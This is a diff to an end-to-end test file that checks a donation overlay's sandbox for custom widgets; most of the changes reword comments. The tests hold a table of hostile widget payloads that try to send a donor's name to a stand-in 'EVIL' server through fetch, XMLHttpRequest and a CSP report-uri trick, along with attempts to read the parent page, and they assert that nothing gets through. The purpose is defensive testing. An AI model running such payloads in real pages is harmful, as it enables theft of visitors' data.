@@ -1,4 +1,4 @@
-// Over 300 lines: the list of attacks, each tried by one widget and against one server.
+// Over 300 lines: the list of attacks, each of which one widget tries against one server.
 import { readFile } from 'node:fs/promises';
 import { chromium } from '@playwright/test';
 import { donate } from './support/api.ts';
@@ -8,11 +8,11 @@ import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { type EvilServer, openEvilServer } from './support/evilServer.ts';
 import { expect, test } from './support/fixtures.ts';
 
-/* Attempts of a hostile widget to send a donor's name away, or to reach what belongs to others (SPEC CUS-43). */
+/* Attempts of a hostile widget to send a donor's name to a server, or to read data that it may not have (SPEC CUS-43). */
 
 test.use({ viewport: { width: 1_280, height: 720 } });
 
-/** Each attack runs alone; what it throws is part of it. `EVIL` is an address that must receive nothing. */
+/** Each attack runs separately, and may throw. `EVIL` is an address that must not receive anything. */
 const attacks: Readonly<Record<string, string>> = {
   fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
   xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
@@ -78,7 +78,7 @@ const attacks: Readonly<Record<string, string>> = {
     "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
 };
 
-/** What the widget must not be able to read: expressions that must throw or be empty. */
+/** Expressions for what a widget must not be able to read. Each must throw or be empty. */
 const reads: Readonly<Record<string, string>> = {
   'the parent’s document': 'parent.document.body.innerHTML',
   'the parent’s address': 'parent.location.href',
@@ -115,7 +115,7 @@ const prelude = (server: EvilServer) => `
   }
 `;
 
-/** These leave the widget's document, which ends it. */
+/** Attacks that leave the widget's document, after which the widget is removed. */
 const leaving = [
   'document.write',
   'meta',
@@ -130,7 +130,7 @@ const leaving = [
 
 test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
   const html = '<p id="tried"></p>';
-  /** From `onWidgetLoad` on, the widget receives events. */
+  /** A widget receives events only after `onWidgetLoad`. */
   const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
   const staying = Object.entries(attacks).filter(([name]) => !leaving.includes(name));
   const all = `${prelude(evil)} ${onLoad}
@@ -164,7 +164,8 @@ test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries',
   for (const index of leaving.keys()) await expect(widgetFrame(overlay, `leaving-${index}`).locator('#tried')).toHaveText('0');
   await donate(product, { amount: 25, donorName: 'Ada Secret' });
   await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length));
-  // Attacks that reach another document end with it. The others are refused and stay, including a pressed link (SPEC CUS-95).
+  // A widget is removed if its attack opens another document. Other attacks are refused and the widget remains, including a
+  // link that is pressed (SPEC CUS-95).
   await expect.poll(() => overlay.locator('iframe.frame').count()).toBeLessThan(6);
   expect(evil.received).toEqual([]);
   expect(overlay.url()).toBe(address);
@@ -250,7 +251,7 @@ test('[CUS-40] [CUS-43] a widget that replaces its window’s functions does not
   `;
   await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
   const overlay = await openOverlay();
-  // It has been pinged twice by then.
+  // By then the widget has received two pings.
   await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
 });
 
@@ -326,9 +327,9 @@ test('[CUS-43] a widget makes no resolver look up a host', async ({ product, obs
   const tried = widgetFrame(overlay).locator('#tried');
   await expect(tried).toHaveText('all');
   await tried.dispatchEvent('click');
-  // The widget's document is gone.
+  // The frame is removed, because the widget has left its document.
   await expect(overlay.locator('iframe.frame')).toHaveCount(0);
-  await overlay.goto('http://heard.example/').catch(() => {}); // the log must contain this lookup of a missing host
+  await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but the log must contain its lookup
   await browser.close();
   const hosts = await readFile(log, 'utf8');
   expect(hosts).toContain('heard.example');
@@ -370,7 +371,7 @@ test('[CUS-47] a widget gets no worker, no WebGPU and few audio contexts; the po
 
   const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
   if (!frame) throw new Error('the overlay has no widget frame');
-  // An isolated world has the names that were removed from the widget's world, and the same policy.
+  // An isolated world still has the names that were removed from the widget's world, and the same policy.
   const devtools = await overlay.context().newCDPSession(frame);
   const { frameTree } = await devtools.send('Page.getFrameTree');
   const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
